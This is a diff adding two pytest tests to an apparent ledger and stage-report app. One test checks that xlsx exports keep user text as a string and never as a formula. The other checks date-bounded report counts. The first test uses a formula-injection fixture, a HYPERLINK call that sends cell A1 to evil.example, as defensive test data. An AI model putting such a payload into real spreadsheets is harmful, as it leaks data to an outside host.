@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import io
-from datetime import date
+from datetime import date, timedelta
 
 import pytest
 from docx import Document
@@ -12,8 +12,9 @@ from sqlmodel import select
 
 from app.ledger import entries as ledger
 from app.ledger import stage_reports
-from app.models import TypicalCase
+from app.models import LedgerEntry, TypicalCase
 from notices.models import Campaign
+from notices.timeutil import to_cst, utcnow
 from tests.support.flow import unit_id
 from tests.test_dashboard import REPORTER_NAMES, REPORTER_PHONES, build_world
 
@@ -93,3 +94,44 @@ def test_command_writes_both_files(app, db, world, make_user, tmp_path):
     docx_file = tmp_path / "阶段报告-2030-09-30.docx"
     assert "共收到问题线索5条" in _docx_text(docx_file.read_bytes())
     assert (tmp_path / "阶段报告-2030-09-30.xlsx").exists()
+
+
+def test_xlsx_keeps_free_text_as_text_never_a_formula(client, login, make_user, db, campaign_id):
+    """问责情况 is copied from a unit's reply: text starting with "=" appears as written, stored
+    as a string cell, never as a formula (openpyxl would store it as one)."""
+    tf = make_user("taskforce")
+    text = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    ledger.create(db, tf, campaign_id=campaign_id, category="逐利执法", symptom="乱罚款",
+                  measures="废止文件", unit_id=unit_id(db, "hzq"), accountability=text)
+    db.commit()
+    login(tf)
+    today = to_cst(utcnow()).date().isoformat()
+    body = client.get(f"/ledger/stage-reports/download?date={today}&format=xlsx").data
+    sheet = load_workbook(io.BytesIO(body)).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    written = [c for c in cells if c.value == text]  # in 四、责任追究情况, as written
+    assert len(written) == 1 and written[0].data_type == "s"
+
+
+def test_counts_only_the_ledger_entries_created_by_the_report_date(db, make_user, campaign_id):
+    """Every ledger figure of a report is as of its date: an entry created today counts in
+    neither the total nor the 问责 (accountability) and 待销号 (pending) counts of yesterday's
+    report, so it cannot say '涉及责任追究的问题1个' of '共列入问题0个'."""
+    tf = make_user("taskforce")
+    entry = ledger.create(db, tf, campaign_id=campaign_id, category="逐利执法",
+                          symptom="乱罚款", measures="废止文件", unit_id=unit_id(db, "hzq"),
+                          accountability="对2名执法人员诫勉谈话")
+    unit_user = make_user("unit", unit_code="hzq")
+    ledger.add_progress(db, unit_user, entry.id, progress="已废止文件", status="已完成")
+    db.commit()
+    assert ledger.is_pending(db, db.get(LedgerEntry, entry.id))
+    campaign = db.get(Campaign, campaign_id)
+    today = to_cst(utcnow()).date()
+    earlier = stage_reports.build(db, campaign, today - timedelta(days=1))
+    assert (earlier.ledger.total, earlier.ledger.accountability, earlier.ledger.pending) == \
+        (0, 0, 0), stage_reports.overview(earlier)
+    assert earlier.accountability == []
+    current = stage_reports.build(db, campaign, today)
+    assert (current.ledger.total, current.ledger.accountability, current.ledger.pending) == \
+        (1, 1, 1), stage_reports.overview(current)
